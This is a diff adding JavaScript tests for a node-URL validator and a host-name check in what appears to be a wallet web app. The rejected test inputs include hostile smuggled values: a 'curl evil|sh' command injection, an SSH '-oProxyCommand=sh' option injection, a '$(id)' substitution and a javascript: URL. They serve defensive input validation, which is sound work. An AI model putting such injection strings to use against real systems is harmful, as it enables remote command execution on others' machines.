@@ -27,3 +27,20 @@ test('durations, percentages and fingerprints read as people expect', () => {
   assert.equal(percent(500_000), '50 %');
   assert.equal(sshFingerprint(new Uint8Array(32)), 'SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
 });
+
+test('the page talks plain ws:// to loopback only', async () => {
+  const { nodeUrlProblem } = await import('../src/lib/wallet.js');
+  assert.equal(nodeUrlProblem('ws://127.0.0.1:9944'), null);
+  assert.equal(nodeUrlProblem('wss://rpc.example.net'), null);
+  assert.match(nodeUrlProblem('ws://rpc.example.net:9944'), /use wss/);
+  assert.match(nodeUrlProblem('javascript:alert(1)'), /not a ws/);
+  assert.match(nodeUrlProblem('nonsense'), /not a URL/);
+});
+
+test('only a plain host name or address goes into a command to copy', async () => {
+  const { isPlainHost } = await import('../src/lib/format.js');
+  for (const ok of ['127.0.0.1', 'gpu-1.example.net', 'localhost', '::1', '2001:db8::7']) assert.ok(isPlainHost(ok), ok);
+  for (const bad of ['x; curl evil|sh #', '-oProxyCommand=sh', 'a b', 'host\u202Egro.', '', 'a..b', 'exa$(id)mple.net', '-host']) {
+    assert.ok(!isPlainHost(bad), bad);
+  }
+});
